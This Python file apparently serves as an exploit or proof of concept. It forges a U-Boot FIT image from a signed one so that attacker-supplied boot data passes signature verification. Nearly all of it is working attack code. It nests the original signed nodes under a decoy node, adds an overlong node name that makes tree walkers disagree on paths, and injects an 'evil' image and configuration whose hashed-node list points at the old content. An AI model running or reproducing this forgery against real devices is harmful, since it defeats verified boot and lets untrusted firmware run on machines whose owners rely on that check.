# SPDX-License-Identifier: GPL-2.0-or-later
"""Forge a FIT from a signed one: what was signed is moved to where nobody looks

The signed tree stands below a node with an empty name, and the list of signed
nodes follows it there. A name that is too long for one walker over the tree,
and not for another, shifts what the longer one takes for the path of the nodes
behind it, so that the nodes in use are listed and yet not hashed.
"""

import hashlib
import struct

BEGIN, END, PROP, NOP, STOP = 1, 2, 3, 4, 9


def _aligned(data):
    return data + bytes(-len(data) % 4)


class Tree:
    """A flattened tree under construction"""

    def __init__(self, strings):
        self.strings = bytearray(strings)
        self.struct = bytearray()

    def begin(self, name):
        """Begin a node"""
        self.struct += struct.pack('>I', BEGIN) + _aligned(name + b'\0')

    def end(self, count=1):
        """End nodes"""
        self.struct += struct.pack('>I', END) * count

    def prop(self, name, value):
        """Add a property"""
        at = self.strings.find(b'\0' + name + b'\0') + 1
        if not at:
            at = len(self.strings)
            self.strings += name + b'\0'
        self.struct += struct.pack('>III', PROP, len(value), at)
        self.struct += _aligned(value)

    def blob(self):
        """Return: the tree"""
        self.struct += struct.pack('>I', STOP)
        at = 40 + 16
        strings = at + len(self.struct)
        return struct.pack('>10I', 0xd00dfeed, strings + len(self.strings), at,
                           strings, 40, 17, 16, 0, len(self.strings),
                           len(self.struct)) + bytes(16) + bytes(
                               self.struct) + bytes(self.strings)


def _signature(nodes, strings):
    """Return: properties of the signature node of a FIT"""
    at, path, found = 0, [], {}
    while True:
        token, = struct.unpack_from('>I', nodes, at)
        at += 4
        if token == BEGIN:
            stop = nodes.index(b'\0', at)
            path.append(nodes[at:stop])
            at = stop + 4 & ~3
        elif token == END:
            path.pop()
        elif token == PROP:
            size, name = struct.unpack_from('>II', nodes, at)
            value = nodes[at + 8:at + 8 + size]
            at = at + 8 + size + 3 & ~3
            name = strings[name:strings.index(b'\0', name)]
            if path[-1].startswith(b'signature') or len(path) == 1:
                found[name] = value
        elif token == STOP:
            return found


def forge(signed, data, purpose):
    """Return: a FIT with other data, made from a signed one"""
    (_, _, at, strings_at, _, _, _, _, strings_size, size) = \
        struct.unpack('>10I', signed[:40])
    nodes = signed[at:at + size]
    strings = signed[strings_at:strings_at + strings_size]
    sig = _signature(nodes, strings)
    purpose = purpose.encode()

    tree = Tree(strings)
    tree.begin(b'')
    tree.prop(b'timestamp', sig[b'timestamp'])
    tree.prop(b'description', b'x\0')
    tree.begin(b'w')
    tree.struct += nodes[:-4] + struct.pack('>I', NOP)
    tree.end()
    tree.begin(b'j/' + b'y' * 130)
    tree.end()
    tree.begin(b'images')
    tree.begin(b'evil')
    tree.prop(b'description', b'x\0')
    tree.prop(b'type', purpose + b'\0')
    tree.prop(b'compression', b'none\0')
    tree.prop(b'data', data)
    tree.begin(b'hash-1')
    tree.prop(b'algo', b'sha256\0')
    tree.prop(b'value', hashlib.sha256(data).digest())
    tree.end(3)
    tree.begin(b'configurations')
    tree.prop(b'default', b'evil\0')
    tree.begin(b'evil')
    tree.prop(b'description', b'x\0')
    tree.prop(purpose, b'evil\0')
    tree.begin(b'signature-1')
    for name in b'algo', b'value', b'key-name-hint', b'hashed-strings':
        tree.prop(name, sig[name])
    listed = [b'/configurations/evil', b'/images/evil', b'/images/evil/hash-1']
    listed += [b'/w/' + (b'' if path == b'/' else path)
               for path in sig[b'hashed-nodes'].rstrip(b'\0').split(b'\0')]
    tree.prop(b'hashed-nodes', b'\0'.join(listed) + b'\0')
    tree.end(4)
    return tree.blob()
